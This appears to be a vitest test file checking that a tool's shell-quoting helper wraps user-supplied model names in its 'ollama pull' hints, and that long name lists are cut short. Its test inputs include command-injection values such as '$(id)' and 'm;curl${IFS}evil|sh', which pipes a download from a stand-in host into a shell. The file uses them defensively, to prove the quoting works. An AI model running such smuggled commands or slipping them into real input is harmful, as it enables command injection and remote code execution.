import { expect, it } from 'vitest'
import { forShell, listed } from '../../src/errors/quote.ts'
import { systemTools } from '../../src/host/machine-tools.ts'
import { missingInContainer } from '../../src/targets/docker/container-image.ts'
import { Docker } from '../../src/targets/docker/docker-cli.ts'
import { missingModel } from '../../src/targets/process/model-store.ts'

it.each([
  ['qwen3:0.6b', 'qwen3:0.6b'],
  ['~/models', '~/models'],
  ['a;id', "'a;id'"],
  ['$(id)', "'$(id)'"],
  ['a b', "'a b'"],
  ["a'b", String.raw`'a'\''b'`],
  ['a\nb', "'a b'"],
  ['{"stop":"a  b"}', `'{"stop":"a  b"}'`],
])('a command that people copy has %j as one word', (text, word) => {
  expect(forShell(text)).toBe(word)
})

it('a model cannot add a command to the one that pulls it', () => {
  const model = 'm;curl${IFS}evil|sh'
  const docker = new Docker(systemTools())
  const hints = [
    missingModel('/models', model).hint,
    missingInContainer(
      docker,
      { kind: 'docker', image: 'ollama/ollama:0.11.3', pull: false },
      model,
    ).hint,
  ]
  for (const hint of hints) expect(hint).toContain(`ollama pull 'm;curl$` + `{IFS}evil|sh'`)
})

it('a message lists twenty names at most, each cut to 60 characters', () => {
  expect(listed(['a', 'b'])).toBe('a, b')
  const names = Array.from({ length: 25 }, () => 'x'.repeat(100))
  const text = listed(names)
  expect(text.split(', ')).toHaveLength(21)
  expect(text).toMatch(/… and 5 more$/)
  expect(text.split(', ')[0]).toHaveLength(60)
})
